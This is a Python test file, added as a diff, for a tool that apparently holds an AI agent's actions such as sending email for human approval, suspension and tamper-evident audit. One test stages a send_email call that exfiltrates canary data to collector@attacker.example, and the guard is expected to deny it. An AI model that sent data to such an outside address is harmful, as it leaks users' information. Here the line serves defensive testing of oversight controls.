@@ -1,0 +1,144 @@
+"""The human's side: approve and deny from another terminal, suspend a run, read and verify the audit."""
+
+import json
+import shutil
+import sqlite3
+
+import yett
+from guarded import Guarded, decision
+from yett import err, out, rows, run
+
+MAIL = {"to": "risk@deskmate.internal", "subject": "check", "body": "please look at T-1"}
+
+
+class Human(yett.InScratchFolder):
+    def setUp(self):
+        super().setUp()
+        self.guard = None
+
+    def start(self, *words):
+        self.guard = Guarded(self.folder, *words)
+        self.addCleanup(self.guard.close)
+        return self.guard
+
+    def yett(self, *words):
+        return run(*words, "--state", self.guard.state)
+
+    def test_approved_from_another_terminal_runs_once(self):
+        guard = self.start()
+        number = guard.send_call("send_email", MAIL)
+        request = guard.wait_for_question()
+        self.assertEqual(guard.mails(), [])
+        shown = out(self.yett("approvals", "show", request))
+        for word in ("risk@deskmate.internal", "please look at T-1", "dangerous", "ana", "acme", "sha256:"):
+            self.assertIn(word, shown)
+        result = self.yett("approve", request[:4])
+        self.assertEqual(result.returncode, 0, err(result))
+        self.assertNotIn("isError", guard.answer(number)["result"])
+        self.assertEqual(len(guard.mails()), 1)
+        self.assertEqual(self.yett("approve", request).returncode, 1)
+        # The very same call asks again.
+        guard.send_call("send_email", MAIL)
+        self.assertNotEqual(guard.wait_for_question(), request)
+        self.assertEqual(len(guard.mails()), 1)
+
+    def test_denied_stays_denied(self):
+        guard = self.start()
+        number = guard.send_call("send_email", MAIL)
+        self.assertEqual(self.yett("deny", guard.wait_for_question()).returncode, 0)
+        self.assertEqual(decision(guard.answer(number))["rule"], "approval.denied")
+        self.assertEqual(decision(guard.call("send_email", MAIL))["rule"], "approval.denied")
+        self.assertEqual(guard.mails(), [])
+
+    def test_after_the_hold_the_same_call_runs_once_approved(self):
+        guard = self.start("--hold", "0")
+        first = guard.call("send_email", MAIL)
+        self.assertTrue(first["result"]["isError"])
+        self.assertTrue(first["result"]["content"][0]["text"].startswith("NOT EXECUTED"))
+        self.assertEqual(decision(first)["retry"], "same_call_after_approval")
+        self.assertEqual(self.yett("approve", decision(first)["approval"]).returncode, 0)
+        self.assertNotIn("isError", guard.call("send_email", MAIL)["result"])
+        self.assertEqual(len(guard.mails()), 1)
+        self.assertTrue(guard.call("send_email", MAIL)["result"]["isError"])
+        self.assertEqual(len(guard.mails()), 1)
+
+    def test_a_suspended_run_does_nothing_and_its_waiting_calls_end(self):
+        guard = self.start()
+        number = guard.send_call("send_email", MAIL)
+        guard.wait_for_question()
+        self.assertEqual(self.yett("sessions", "suspend", "r-1").returncode, 0)
+        self.assertEqual(decision(guard.answer(number))["rule"], "session.suspended")
+        self.assertEqual(decision(guard.call("read_ticket", {"id": "T-1"}))["rule"], "session.suspended")
+        status = json.loads(out(self.yett("status", "--format", "json")))
+        self.assertEqual((status["suspended"], status["pending"]), (1, 0))
+        self.assertEqual(self.yett("sessions", "resume", "r-1").returncode, 0)
+        self.assertNotIn("isError", guard.call("read_ticket", {"id": "T-1"})["result"])
+
+    def test_a_client_that_hangs_up_cancels_its_waiting_call(self):
+        guard = Guarded(self.folder)
+        self.guard = guard
+        guard.send_call("send_email", MAIL)
+        request = guard.wait_for_question()
+        guard.close()
+        self.assertEqual(self.yett("approve", request).returncode, 1)
+        records = rows(self.yett("audit", "list", "--format", "json"))
+        self.assertIn(("approval", "cancelled"), [(r["kind"], r["decision"]) for r in records])
+        self.assertEqual(guard.mails(), [])
+
+    def test_the_audit_answers_the_five_questions(self):
+        guard = self.start("--hold", "0")
+        guard.call("read_ticket", {"id": "T-1"})
+        guard.call("send_email", {"to": "collector@attacker.example", "subject": "s", "body": "canary-body"})
+        guard.call("send_email", MAIL)
+        records = [r for r in rows(self.yett("audit", "list", "--format", "json")) if r["kind"] == "decision"]
+        self.assertEqual([(r["decision"], r["rule"]) for r in records],
+                         [("allow", "default.allow"), ("deny", "destination.unlisted"), ("confirm", "approval.dangerous")])
+        for record in records:
+            self.assertEqual((record["run"], record["user"], record["tenant"]), ("r-1", "ana", "acme"))
+            self.assertTrue(record["reason"])
+            self.assertIn("effect", record["intent"])
+        self.assertEqual(records[1]["intent"]["destinations"][0]["address"], "<mailbox@attacker.example>")
+        table = out(self.yett("audit", "list", "--decision", "deny"))
+        self.assertIn("attacker.example", table)
+        self.assertNotIn("collector", table)
+        self.assertNotIn("confirm", table)
+
+    def test_no_argument_reaches_the_state_folder(self):
+        guard = self.start("--hold", "0")
+        guard.call("update_ticket", {"id": "T-2", "note": "canary-note-7a31"})
+        guard.call("send_email", {"to": "canary-local@deskmate.internal", "subject": "canary-subject", "body": "canary-body"})
+        guard.call("canary_tool_name", {})
+        for path in guard.state.rglob("*"):
+            if path.is_file():
+                self.assertNotIn(b"canary", path.read_bytes(), path.name)
+
+    def test_deleting_any_record_breaks_the_chain(self):
+        guard = Guarded(self.folder, "--hold", "0")
+        self.guard = guard
+        guard.call("read_ticket", {"id": "T-1"})
+        guard.call("send_email", MAIL)
+        guard.close()
+        whole = self.yett("audit", "verify")
+        self.assertEqual(whole.returncode, 0, out(whole))
+        count = len(rows(self.yett("audit", "list", "--format", "json")))
+        self.assertGreater(count, 4)
+        for seq in range(1, count + 1):
+            copy = self.folder / f"copy-{seq}"
+            shutil.copytree(guard.state, copy)
+            copy.chmod(0o700)
+            with sqlite3.connect(copy / "store.db") as database:
+                database.execute("DELETE FROM records WHERE seq = ?", (seq,))
+            database.close()
+            result = run("audit", "verify", "--state", copy)
+            self.assertEqual(result.returncode, 1, seq)
+            self.assertIn(str(seq), out(result))
+
+    def test_an_id_that_nobody_has(self):
+        self.start("--hold", "0").call("send_email", MAIL)
+        result = self.yett("approve", "zz")
+        self.assertEqual(result.returncode, 2)
+        self.assertIn("yett approvals", err(result))
+
+
+if __name__ == "__main__":
+    yett.main()
